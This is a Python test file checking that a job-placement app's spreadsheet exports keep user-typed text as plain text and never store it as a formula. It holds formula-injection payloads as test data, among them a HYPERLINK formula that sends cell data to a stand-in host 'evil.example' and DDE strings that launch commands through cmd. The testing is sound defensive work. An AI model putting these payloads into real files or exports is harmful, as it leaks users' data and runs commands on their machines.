"""Formula injection: text a villager, an employer or a provider typed goes into every export as
text, never as a formula that a spreadsheet program would run."""
import io
import zipfile

from openpyxl import load_workbook

from core.spreadsheets import Spreadsheet
from tests.conftest import VILLAGE

LINK = '=HYPERLINK("http://evil.example/?x="&C2&D2,"点击")'
HOSTILE = [LINK, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def formulas_in(data: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook, as stored."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def test_the_writer_keeps_every_hostile_text_as_text():
    book = Spreadsheet()
    sheet = book.sheet("x", ["text"])
    for text in HOSTILE:
        sheet.append([text, 42])
    data = book.save().getvalue()
    assert formulas_in(data) == []
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == [t.replace("\r", "\n") for t in HOSTILE]  # XML reads CR as LF
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in cells)
    assert all(row[1].value == 42 and row[1].data_type == "n" for row in cells)  # numbers stay numbers


def test_a_worker_named_as_a_formula_is_text_in_the_station_export(api_as, make_worker):
    make_worker(name=LINK)
    download = api_as("station", [VILLAGE]).get("/api/v1/workers/export", query_string={"area_code": VILLAGE})
    assert download.status_code == 200
    assert formulas_in(download.data) == []
    names = [row[1] for row in load_workbook(io.BytesIO(download.data)).active.iter_rows(min_row=2, values_only=True)]
    assert names == [LINK]


def test_a_posting_titled_as_a_formula_is_text_in_the_allocation_workbook(login_as, make_worker, make_job):
    make_worker(max_commute_km=30)
    make_job(title="=1+1", required_skills=[], openings=1, physical_demand="light", lat=35.97, lon=105.73)
    download = login_as("station", [VILLAGE]).get(f"/allocations.xlsx?area={VILLAGE}")
    assert download.status_code == 200
    assert formulas_in(download.data) == []
    rows = list(load_workbook(io.BytesIO(download.data))["分配方案"].iter_rows(min_row=2, values_only=True))
    assert [r[4] for r in rows] == ["=1+1"]
